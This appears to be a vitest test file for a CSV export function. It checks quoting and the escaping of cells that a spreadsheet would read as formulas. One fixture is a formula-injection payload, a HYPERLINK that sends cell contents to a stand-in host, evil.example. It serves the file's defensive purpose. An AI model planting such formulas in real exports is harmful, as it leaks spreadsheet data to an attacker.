import { expect, test } from 'vitest';
import { csvOf } from './csv.ts';

/** The cells of the only row under the header. */
const cell = (text: string) => csvOf(['Text'], [[text]]).split('\r\n')[1];

test('a table has a mark for UTF-8, its headers and its rows', () => {
  expect(csvOf(['Name', 'Action'], [['Zoë', 'invited']])).toBe('\u{FEFF}Name,Action\r\nZoë,invited\r\n');
});

test('commas, quotes and line breaks stay within their cell', () => {
  expect(csvOf(['Text'], [['a, "b"\nc']])).toBe('\u{FEFF}Text\r\n"a, ""b""\nc"\r\n');
});

test.each(['=1+1', '+1', '-1', '@SUM(A1)', '＝1+1', '＋1', '－1', '＠SUM(A1)'])(
  '%s is no formula in a spreadsheet',
  (text) => {
    expect(cell(text)).toBe(`'${text}`);
  },
);

test.each([
  [
    '=HYPERLINK("http://evil.example?x="&A1,"Report")',
    `"'=HYPERLINK(""http://evil.example?x=""&A1,""Report"")"`,
  ],
  ['\t=1+1', `'\t=1+1`],
  ['=1,2', `"'=1,2"`],
])('%j is no formula either', (text, expected) => {
  expect(cell(text)).toBe(expected);
});

test('a carriage return ends no cell', () => {
  expect(csvOf(['Text'], [['a\r=1+1']])).toBe('\u{FEFF}Text\r\n"a\r=1+1"\r\n');
  expect(csvOf(['Text'], [['\r=1+1']])).toBe(`\u{FEFF}Text\r\n"'\r=1+1"\r\n`);
});

test('a text that only holds such signs is not changed', () => {
  expect(cell('a=b')).toBe('a=b');
  expect(cell("O'Neill")).toBe("O'Neill");
});
